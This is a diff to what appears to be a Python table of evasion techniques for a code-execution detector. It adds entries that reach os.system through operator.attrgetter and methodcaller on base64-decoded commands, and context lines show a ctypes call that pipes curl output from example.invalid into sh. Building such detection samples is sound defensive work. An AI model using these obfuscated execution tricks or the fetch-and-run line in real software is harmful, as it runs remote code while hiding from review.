@@ -397,6 +397,18 @@ LOOKUPS_AND_HANDOFFS = (
         Severity.CRITICAL,
     ),
     Technique(
+        "attrgetter-lookup",
+        "import os, operator, base64\n"
+        f"operator.attrgetter('system')(os)(base64.b64decode('{_HARMLESS_COMMAND}'))\n",
+        Severity.CRITICAL,
+    ),
+    Technique(
+        "methodcaller-lookup",
+        "import os, operator, base64\n"
+        f"operator.methodcaller('system', base64.b64decode('{_HARMLESS_COMMAND}'))(os)\n",
+        Severity.CRITICAL,
+    ),
+    Technique(
         "libc-system-through-ctypes",
         "import ctypes\nctypes.CDLL(None).system(b'curl -s https://example.invalid/i | sh')\n",
         Severity.CRITICAL,
